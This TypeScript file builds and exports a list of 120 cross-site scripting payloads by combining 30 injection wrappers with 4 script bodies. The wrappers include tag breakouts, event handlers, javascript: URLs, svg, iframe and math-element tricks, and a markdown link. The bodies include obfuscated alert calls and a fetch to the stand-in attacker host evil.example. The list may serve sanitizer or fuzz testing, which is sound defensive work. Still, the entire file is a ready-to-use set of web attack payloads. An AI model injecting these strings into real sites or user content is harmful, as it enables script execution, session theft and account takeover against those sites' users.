// Markup that runs a script where a text is taken for a page: a hundred and twenty, from ways in × things to run.

const RUN = ['alert(1)', 'alert`1`', 'top["al"+"ert"](1)', '(()=>{fetch("//evil.example")})()'] as const;

/** `@` stands for what is run. */
const WAYS = [
  '<script>@</script>',
  '<ScRiPt>@</sCrIpT>',
  '"><script>@</script>',
  "'><script>@</script>",
  '</title><script>@</script>',
  '</textarea><script>@</script>',
  '</script><script>@</script>',
  '<script\u0020src=data:,@></script>',
  '<img src=x onerror=@>',
  '<img src=x onerror="@">',
  '" onmouseover="@',
  "' onfocus='@' autofocus='",
  '<svg onload=@>',
  '<svg/onload=@>',
  '<svg><script>@</script></svg>',
  '<body onload=@>',
  '<iframe src="javascript:@"></iframe>',
  '<iframe srcdoc="<script>@</script>"></iframe>',
  '<a href="javascript:@">a</a>',
  '<a href="java\tscript:@">a</a>',
  '<details open ontoggle=@>',
  '<math><mtext></p><script>@</script>',
  '<style>@import "javascript:@"</style>',
  '<input autofocus onfocus=@>',
  '<video><source onerror=@>',
  '<object data="javascript:@">',
  '<form action="javascript:@"><button>',
  '\u2028<script>@</script>',
  '\\u003cscript\\u003e@\\u003c/script\\u003e',
  '[a](javascript:@)',
] as const;

export const XSS: readonly string[] = WAYS.flatMap((way) => RUN.map((run) => way.replaceAll('@', run)));
